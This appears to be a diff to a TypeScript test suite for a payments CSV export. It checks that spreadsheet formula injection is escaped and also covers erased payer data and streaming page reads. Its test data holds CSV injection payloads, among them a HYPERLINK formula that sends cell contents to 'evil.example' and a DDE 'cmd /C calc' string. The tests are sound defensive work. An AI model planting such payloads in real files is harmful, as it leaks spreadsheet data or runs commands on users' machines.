@@ -4,15 +4,20 @@ import { after, before, describe, test } from 'node:test';
 import { setTimeout as sleep } from 'node:timers/promises';
 import type { Database } from '../../src/database/database.ts';
 import { EXPORT_COLUMNS, exportPayments, exportStream } from '../../src/payments/export.ts';
+import type { Payment } from '../../src/payments/payment.ts';
 import type { SearchFilter } from '../../src/payments/review/queries.ts';
+import { decide, erase, submit } from '../campaigns/history.ts';
 import { readCsv, readCsvRows } from '../support/csv.ts';
 import { open, send, TYPED } from '../support/customer.ts';
 import { type Harness, startHarness } from '../support/harness.ts';
+import { addReviewers } from '../support/reviewers.ts';
 import { createAt, SHOP } from '../support/shop.ts';
 import { ENGINES } from '../support/stores.ts';
 
 /** What spreadsheets take for the beginning of a formula. */
 const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
+/** What they may drop from in front of one. */
+const UNSEEN = [' ', '  ', '\u00a0', '\u200b', '\ufeff', '\u2060', '\u3000', ' \ufeff\u200b'];
 
 for (const engine of ENGINES)
   describe(engine, () => {
@@ -72,6 +77,15 @@ for (const engine of ENGINES)
         const { id } = await harness.create({ merchant_reference: text, customer: { name: text } });
         made.push(id);
       }
+      const hidden = UNSEEN.flatMap((unseen) =>
+        ['=', '+', '-', '@', '＝'].map((start) => `${unseen}${start}1+1`),
+      );
+      for (const description of hidden) made.push((await harness.create({ description })).id);
+      // Nothing that could be a formula: it stays as it is.
+      const harmless = ['\u00a0Socks', "'=1", '1-1', '\u200b', ' (-1)'];
+      for (const description of harmless) made.push((await harness.create({ description })).id);
+      const semicolon = ';=HYPERLINK("http://evil.example/?"&A1);';
+      made.push((await harness.create({ description: semicolon })).id);
       // Text over several lines may begin with a tab or a line break.
       for (const start of ['\t', '\n']) made.push((await harness.create({ description: `${start}=1+1` })).id);
       const records = readCsv(await exported('csv'));
@@ -81,17 +95,44 @@ for (const engine of ENGINES)
       assert.deepEqual(rows.map(({ id }) => id).sort(), made.sort());
       for (const row of rows) assert.equal(row.amount, '49.90');
       assert.ok(rows.some(({ merchant_reference }) => merchant_reference === "'=cmd|' /C calc'!A0"));
+      const told = rows.map(({ description }) => description);
+      for (const text of hidden) assert.ok(told.includes(`'${text}`), JSON.stringify(text));
+      assert.ok(told.includes(semicolon.replace(';=', ";'=")), 'a cell of its own in half of Europe');
+      for (const text of harmless) assert.ok(told.includes(text), JSON.stringify(text));
+    });
+
+    test('How a payment was paid is told after its personal data is erased, and of one from before there was a column.', async () => {
+      const rowOf = async (id: string) => readCsvRows(await exported('csv', { id }))[0]!;
+      await addReviewers(harness.service.journal);
+      const { id } = await harness.create();
+      await submit(harness, id);
+      await decide(harness, id);
+      await erase(harness, id);
+      const erased = await rowOf(id);
+      assert.equal(erased.method, 'details');
+      assert.equal(erased.payer_name, '');
+      const { database } = harness.service;
+      const old: Pick<Database, 'query'> = {
+        query: async <R>() => {
+          const [row] = await database.query<Payment>('select * from payments where id = ?', id);
+          return [{ ...row, method: null, submission: '{"method":"bank_transfer"}' }] as R[];
+        },
+      };
+      const options = { format: 'csv', filter: {}, now: harness.clock.now() } as const;
+      let text = '';
+      for await (const part of exportPayments(old, options)) text += part;
+      assert.equal(readCsvRows(text)[0]!.method, 'bank_transfer');
     });
 
     test('A reader that stops reading is not read ahead of by more than a few pages.', async () => {
       const MANY = 2200;
       for (let i = 0; i < MANY; i += 220)
         await Promise.all(Array.from({ length: 220 }, () => harness.create({ merchant_reference: 'MANY' })));
-      let queries = 0;
+      let pages = 0;
       const { database } = harness.service;
       const counted: Pick<Database, 'query'> = {
         query(sql, ...values) {
-          queries++;
+          if (sql.includes(' as branch0')) pages++;
           return database.query(sql, ...values);
         },
       };
@@ -103,7 +144,7 @@ for (const engine of ENGINES)
       const parts = stream[Symbol.asyncIterator]();
       await parts.next();
       await sleep(100);
-      assert.ok(queries <= 3, `${queries} pages were read for one`);
+      assert.ok(pages <= 3, `${pages} pages were read for one`);
       let lines = 0;
       for await (const part of { [Symbol.asyncIterator]: () => parts })
         lines += String(part).split('\n').length - 1;
